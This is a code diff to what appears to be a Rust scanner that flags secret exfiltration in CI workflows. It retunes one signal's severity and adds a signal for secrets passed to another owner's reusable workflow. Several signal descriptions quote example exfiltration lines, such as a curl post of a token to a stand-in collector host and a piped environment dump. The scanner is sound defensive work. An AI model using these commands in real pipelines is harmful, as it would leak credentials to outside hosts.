@@ -61,7 +61,7 @@ macro_rules! signals {
 signals! {
     ForeignDestination = "foreign-destination", Place, "The host is written in the file and belongs to no service that is known to need the secret: `curl -d \"$T\" https://collector.example/`.";
     RawAddress = "raw-address", Weak, "The destination is an IP address: nobody's name stands behind it.";
-    DropBox = "drop-box", Weak, "The destination shows what it got to whoever made it, without an account: request bins, tunnels, pastes.";
+    DropBox = "drop-box", Hiding, "The destination shows what it got to whoever made it, without an account: request bins, tunnels, pastes.";
     LookAlike = "look-alike", Hiding, "The name of the receiver is made to be taken for a known one: `upload.pypl.org`, `actions/checkout` under another owner.";
     PlainHttp = "plain-http", Weak, "The secret travels unencrypted.";
     ReadableLog = "readable-log", Place, "The secret reaches the job's log in a form that the runner's mask does not cover; who can read the log can read the secret.";
@@ -69,6 +69,7 @@ signals! {
     Downloadable = "downloadable", Place, "The secret lies in an artifact, a cache, a comment or a repository, from where it can be fetched.";
     UnrelatedSecrets = "unrelated-secrets", Greed, "A secret whose name or use says what it opens goes to a place that is not that: a PyPI token to a host that is not PyPI's; or secrets that have nothing to do with each other go together.";
     AllSecrets = "all-secrets", Greed, "The whole `secrets` context leaves: `toJSON(secrets)`.";
+    InheritedSecrets = "inherited-secrets", Weak, "A reusable workflow of another owner gets all secrets by `secrets: inherit`.";
     ManySecrets = "many-secrets", Weak, "Three secrets or more leave together.";
     LabelledSecrets = "labelled-secrets", Greed, "The names of several secrets are sent along with their values: `A=${{ secrets.A }}&B=${{ secrets.B }}`. Who uses a credential knows its name; who collects them needs it.";
     EnvironmentDump = "environment-dump", Greed, "The whole environment leaves, with the secrets in it: `env | curl -d @- …`.";
